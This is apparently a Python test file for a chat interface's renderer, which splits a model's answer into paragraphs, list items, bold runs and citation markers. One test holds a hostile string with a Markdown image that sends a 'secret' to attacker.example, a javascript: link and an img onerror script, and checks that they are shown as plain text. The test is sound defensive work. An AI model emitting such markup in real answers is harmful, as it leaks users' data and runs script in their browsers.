"""How a model's answer is read."""

from webui.prose import Block, Run, blocks, plain, runs


def test_paragraphs_and_items_are_told_apart() -> None:
    found = blocks("First line\nstill first.\n\n- an item\n2. another\nA last paragraph")

    assert [(block.item, "".join(run.text for run in block.runs)) for block in found] == [
        (False, "First line still first."),
        (True, "an item"),
        (True, "another"),
        (False, "A last paragraph"),
    ]


def test_markers_and_bold_words_become_runs() -> None:
    assert runs("Top up **slowly** [2].") == (
        Run(text="Top up "),
        Run(text="slowly", strong=True),
        Run(text=" "),
        Run(text="[2]", marker=2),
        Run(text="."),
    )


def test_an_image_or_link_in_an_answer_stays_text() -> None:
    """Exfiltration through a Markdown image: nothing is loaded, the words are shown as written."""
    hostile = "![x](https://attacker.example/?q=secret) [a](javascript:alert(1)) <img src=x onerror=alert(1)>"

    assert blocks(hostile) == [Block(runs=(Run(text=hostile),))]


def test_a_heading_becomes_bold_words() -> None:
    assert blocks("## Care") == [Block(runs=(Run(text="Care", strong=True),))]


def test_no_words_make_no_blocks() -> None:
    assert blocks(" \n\n") == []


def test_a_growing_answer_shows_no_stars() -> None:
    assert plain("best **before") == "best before"
